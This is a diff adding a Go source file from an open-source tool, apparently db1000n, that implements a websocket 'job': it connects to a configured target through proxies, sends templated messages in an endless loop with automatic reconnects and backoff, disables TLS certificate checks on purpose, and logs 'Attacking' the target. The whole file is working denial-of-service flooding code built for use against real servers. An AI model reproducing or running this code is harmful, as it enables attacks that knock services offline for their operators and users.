@@ -0,0 +1,201 @@
+// MIT License
+
+// Copyright (c) [2022] [Bohdan Ivashko (https://github.com/Arriven)]
+
+// Permission is hereby granted, free of charge, to any person obtaining a copy
+// of this software and associated documentation files (the "Software"), to deal
+// in the Software without restriction, including without limitation the rights
+// to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+// copies of the Software, and to permit persons to whom the Software is
+// furnished to do so, subject to the following conditions:
+
+// The above copyright notice and this permission notice shall be included in all
+// copies or substantial portions of the Software.
+
+// THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+// IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+// FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+// AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+// LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+// OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
+// SOFTWARE.
+
+package job
+
+import (
+	"context"
+	"crypto/tls"
+	"errors"
+	"fmt"
+	"log"
+	"net/http"
+	"text/template"
+	"time"
+
+	"github.com/google/uuid"
+	"github.com/gorilla/websocket"
+	"go.uber.org/zap"
+
+	"github.com/Arriven/db1000n/src/job/config"
+	"github.com/Arriven/db1000n/src/utils"
+	"github.com/Arriven/db1000n/src/utils/metrics"
+	"github.com/Arriven/db1000n/src/utils/templates"
+)
+
+type websocketJobConfig struct {
+	BasicJobConfig
+
+	Path         string
+	Headers      map[string]string
+	Messages     []string
+	SendInterval *time.Duration `mapstructure:"send_interval"`
+	ProxyURLs    string         `mapstructure:"proxy_urls"`
+	Timeout      *time.Duration
+}
+
+func websocketJob(ctx context.Context, logger *zap.Logger, globalConfig *GlobalConfig, args config.Args) (data interface{}, err error) {
+	ctx, cancel := context.WithCancel(ctx)
+	defer cancel()
+
+	var jobConfig websocketJobConfig
+	if err := ParseConfig(&jobConfig, args, *globalConfig); err != nil {
+		return nil, fmt.Errorf("error parsing job config: %w", err)
+	}
+
+	if len(jobConfig.Messages) == 0 {
+		return nil, errors.New("no messages provided, at least one is required")
+	}
+
+	messageTpls := make([]*template.Template, 0, len(jobConfig.Messages))
+
+	for _, message := range jobConfig.Messages {
+		tpl, err := templates.Parse(message)
+		if err != nil {
+			return nil, fmt.Errorf("error parsing message template %q: %w", message, err)
+		}
+
+		messageTpls = append(messageTpls, tpl)
+	}
+
+	if globalConfig.ProxyURLs != "" {
+		jobConfig.ProxyURLs = globalConfig.ProxyURLs
+	}
+
+	path := templates.ParseAndExecute(logger, jobConfig.Path, ctx)
+	dialer := &websocket.Dialer{
+		NetDial:          utils.GetProxyFunc(templates.ParseAndExecute(logger, jobConfig.ProxyURLs, ctx), utils.NonNilDurationOrDefault(jobConfig.Timeout, time.Minute)),
+		TLSClientConfig:  &tls.Config{InsecureSkipVerify: true}, //nolint:gosec // This is intentional
+		HandshakeTimeout: utils.NonNilDurationOrDefault(jobConfig.Timeout, time.Minute),
+	}
+
+	backoffController := utils.NewBackoffController(utils.NonNilBackoffConfigOrDefault(jobConfig.BackoffConfig, globalConfig.Backoff))
+
+	trafficMonitor := jobConfig.newTrafficMonitor()
+	go trafficMonitor.Update(ctx, time.Second)
+
+	processedTrafficMonitor := metrics.Default.NewWriter(metrics.ProcessedTraffic, uuid.NewString())
+	go processedTrafficMonitor.Update(ctx, time.Second)
+
+	if !isInEncryptedContext(ctx) {
+		log.Printf("Attacking %v", path)
+	}
+
+	// iterations are the messages so reconnects don't count towards the job limits
+	for i := 0; ctx.Err() == nil; {
+		headers := make(http.Header, len(jobConfig.Headers))
+		for key, value := range jobConfig.Headers {
+			headers.Set(key, templates.ParseAndExecute(logger, value, ctx))
+		}
+
+		finished, err := sendWebsocket(ctx, logger, dialer, path, headers, &jobConfig, messageTpls, &i, trafficMonitor, processedTrafficMonitor)
+
+		switch {
+		case finished:
+			return nil, nil
+		case err != nil:
+			logger.Debug("websocket connection failed", zap.String("path", path), zap.Error(err))
+			utils.Sleep(ctx, backoffController.Increment().GetTimeout())
+		default:
+			backoffController.Reset()
+		}
+	}
+
+	return nil, nil
+}
+
+// sendWebsocket sends the messages over a single connection until it's closed or the job has no more iterations,
+// finished tells the latter. The index of the next message is kept in i across the connections
+func sendWebsocket(ctx context.Context, logger *zap.Logger, dialer *websocket.Dialer, path string, headers http.Header, jobConfig *websocketJobConfig,
+	messageTpls []*template.Template, i *int, trafficMonitor, processedTrafficMonitor *metrics.Writer,
+) (finished bool, err error) {
+	conn, resp, err := dialer.DialContext(ctx, path, headers)
+	if err != nil {
+		metrics.IncWebsocket(path, metrics.StatusFail)
+
+		return false, err
+	}
+
+	resp.Body.Close()
+	defer conn.Close()
+
+	// reader is required to process control frames, it also tells us when the server closes the connection
+	closed := make(chan error, 1)
+
+	go func() {
+		for {
+			if _, _, err := conn.NextReader(); err != nil {
+				closed <- err
+
+				return
+			}
+		}
+	}()
+
+	sendInterval := utils.NonNilDurationOrDefault(jobConfig.SendInterval, 0)
+
+	// reused between the messages, it's only reset once stopped or fired
+	timer := time.NewTimer(sendInterval)
+	if !timer.Stop() {
+		<-timer.C
+	}
+
+	for ; jobConfig.Next(ctx); *i++ {
+		message := []byte(templates.Execute(logger, messageTpls[*i%len(messageTpls)], ctx))
+
+		trafficMonitor.Add(uint64(len(message)))
+
+		if err := conn.WriteMessage(websocket.TextMessage, message); err != nil {
+			metrics.IncWebsocket(path, metrics.StatusFail)
+
+			return false, err
+		}
+
+		processedTrafficMonitor.Add(uint64(len(message)))
+		metrics.IncWebsocket(path, metrics.StatusSuccess)
+
+		timer.Reset(sendInterval)
+
+		select {
+		case err := <-closed:
+			timer.Stop()
+
+			*i++
+
+			if websocket.IsCloseError(err, websocket.CloseNormalClosure, websocket.CloseGoingAway) {
+				return false, nil
+			}
+
+			return false, err
+		case <-ctx.Done():
+			timer.Stop()
+		case <-timer.C:
+		}
+	}
+
+	const closeTimeout = time.Second
+
+	// ignore the error as we're dropping the connection anyway
+	_ = conn.WriteControl(websocket.CloseMessage, websocket.FormatCloseMessage(websocket.CloseNormalClosure, ""), time.Now().Add(closeTimeout))
+
+	return true, nil
+}